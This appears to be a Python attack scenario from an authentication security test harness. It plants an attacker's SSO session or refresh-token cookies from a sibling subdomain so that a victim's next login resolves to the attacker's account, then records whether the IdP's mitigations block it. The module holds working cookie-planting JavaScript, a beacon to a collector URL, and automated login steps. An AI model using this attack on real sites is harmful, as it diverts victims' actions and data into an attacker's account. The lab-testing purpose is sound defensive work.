"""A session cookie planted from a sibling subdomain.

Threat: the attacker logs in to the IdP as themself (mallory) and keeps the cookies they got:
the SSO session (`fusionauth.sso`, with its `fusionauth.browser` binding) in the redirect modes,
the `refresh_token` in native mode. The victim, logged in as themself, opens the attacker's page
on `evil.authgate.localhost`, whose script sets those cookies with
`Domain=authgate.localhost` -- which a sibling subdomain may do -- so the browser now sends the
IdP two cookies of each name, the victim's and the attacker's. If the IdP takes the attacker's
copy, the victim's next login at the Store (SSO, no form) or the SPA's next refresh (native)
comes back as mallory, and what the victim then does lands in the attacker's account.
What stops it: two cookies of one of the IdP's names are both ignored (and the planted one is
expired on the parent domain); the SSO session is bound to the browser cookie, so a session
cookie alone is worthless; over https every IdP cookie is `__Host-`, which a sibling cannot set.
"""
from __future__ import annotations

import asyncio
import html as htmllib
import json
import re

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import NATIVE, describe, short
from authgate_demo.stack import STORE_ID

ID = "12-sibling-cookie-planting"
TITLE = "Session cookie planted from a sibling subdomain (Domain=authgate.localhost)"

MALLORY, MALLORY_PASSWORD = "mallory@example.com", "mallory-Correct-Horse-42"
CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
_INPUT = re.compile(r"<input[^>]*>")
_NAME, _VALUE = re.compile(r'name="([^"]*)"'), re.compile(r'value="([^"]*)"')

PAGE = """<!doctype html><title>Cute cats</title><h1>Cute cats</h1>
<script>
PLANT.forEach(function (c) { document.cookie = c + '; domain=DOMAIN; path=/'; });
fetch(SINK, {method: 'POST', mode: 'no-cors', body: document.cookie ? 'planted' : 'set'});
</script>"""


def applies(mode: str) -> str | None:
    return None  # every mode keeps an IdP session cookie: SSO (redirect modes) or the refresh token (native)


async def _mallory_cookies(ctx) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """The attacker's own IdP cookies, got by logging in as themself outside the victim's browser."""
    r = await ctx.attack("POST", "idp", "/api/user/registration", headers={"Authorization": ctx.stack.api_key},
                         json={"user": {"email": MALLORY, "password": MALLORY_PASSWORD},
                               "registration": {"applicationId": STORE_ID}, "skipVerification": True})
    if ctx.mode == NATIVE:
        r = await ctx.attack("POST", "idp", "/api/login", json={"loginId": MALLORY, "password": MALLORY_PASSWORD,
                                                                "applicationId": STORE_ID})
        if r.status_code != 200:
            raise RuntimeError(f"the attacker could not log in: {describe(r)}")
        return {"refresh_token": r.json()["refreshToken"]}
    params = {"client_id": STORE_ID, "redirect_uri": ctx.url("store") + "/oauth-redirect", "scope": "openid",
              "response_type": "token" if ctx.mode.startswith("implicit") else "code", "state": "m", "nonce": "m",
              "code_challenge": CHALLENGE, "code_challenge_method": "S256"}
    page = await ctx.attack("GET", "idp", "/oauth2/authorize", params=params)
    csrf = {k: v for k, v in page.cookies.items()}
    fields = {}
    for tag in _INPUT.findall(page.text):
        name, value = _NAME.search(tag), _VALUE.search(tag)
        if name:
            fields[name.group(1)] = htmllib.unescape(value.group(1) if value else "")
    fields.update(loginId=MALLORY, password=MALLORY_PASSWORD)
    done = await ctx.attack("POST", "idp", "/oauth2/authorize", data=fields, cookies=csrf)
    got = {k: v for k, v in done.cookies.items()}
    if done.status_code not in (302, 303) or not any("sso" in k for k in got):
        raise RuntimeError(f"the attacker could not log in through the hosted form: {describe(done)}")
    return got


async def _next_login(ctx, page) -> str:  # type: ignore[no-untyped-def]
    """The victim's next login at the Store; what the Store then says (or that the IdP asked for a password)."""
    if ctx.mode == NATIVE:
        await page.context.clear_cookies(name="app_jwt")  # the Store's JWT expired: the SPA refreshes at the IdP
        await page.click("#reload-button")
        await asyncio.sleep(1.5)
        return await page.locator("#user-line").inner_text()
    # The Store's own session ends (its cookies and storage gone); the IdP's SSO cookies stay.
    await page.evaluate("() => { localStorage.clear(); sessionStorage.clear(); }")
    store_host = ctx.host("store").split(":")[0]
    for cookie in await page.context.cookies(ctx.url("store")):
        if cookie["domain"] == store_host:  # the Store's own; the planted parent-domain ones stay
            await page.context.clear_cookies(name=cookie["name"], domain=cookie["domain"])
    await page.goto(ctx.url("store") + "/")
    await page.locator("#login-button").wait_for(state="visible")
    await page.click("#login-button")
    form = page.locator("#loginId")
    who = page.locator("#user-line").filter(has_text="Logged in as")
    await form.or_(who).first.wait_for()
    if await form.count():
        return "the IdP showed its login form (no session was taken from the cookies)"
    return await who.inner_text()


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    planted = await _mallory_cookies(ctx)
    page = await ctx.victim()
    evidence = [f"attacker logged in as {MALLORY} and keeps its cookies: "
                + ", ".join(f"{k}={short(v)}" for k, v in planted.items())]
    tag = f"{ID}-{ctx.mode}"
    domain = ctx.stack.cfg.domain
    html = (PAGE.replace("PLANT", json.dumps([f"{k}={v}" for k, v in planted.items()]))
            .replace("DOMAIN", domain).replace("SINK", json.dumps(ctx.sink.collect_url(tag))))
    evil = await page.context.new_page()
    await evil.goto(ctx.sink.add_page(tag, html))
    await ctx.sink.wait_for(tag, timeout=5)
    jar = await page.context.cookies(ctx.url("idp"))
    copies = {k: [c["domain"] for c in jar if c["name"] == k] for k in planted}
    evidence.append("the browser now holds for the IdP: "
                    + "; ".join(f"{k} from {', '.join(v)}" for k, v in copies.items()))
    if not all(len(v) == 2 for v in copies.values()):
        raise RuntimeError(f"the sibling page could not plant its cookies next to the victim's: {copies}")
    await evil.close()
    line = await _next_login(ctx, page)
    evidence.append(f"the victim's next login at the Store: {line!r}")
    left = {k: [c["domain"] for c in await page.context.cookies(ctx.url("idp")) if c["name"] == k] for k in planted}
    evidence.append("IdP cookies afterwards: " + "; ".join(f"{k} from {', '.join(v) or 'nowhere'}" for k, v in left.items()))
    if MALLORY in line:
        return succeeded(stolen="the victim's login: the browser is now logged in as the attacker",
                         usable_for="until the victim notices; what they enter goes to mallory's account",
                         mitigation="refuse two cookies of one name; bind the session; __Host- cookies over https",
                         evidence=evidence)
    return blocked("two cookies of one IdP name are both ignored (the planted one expired); the SSO session is bound "
                   "to its browser cookie; __Host- names over https", evidence)
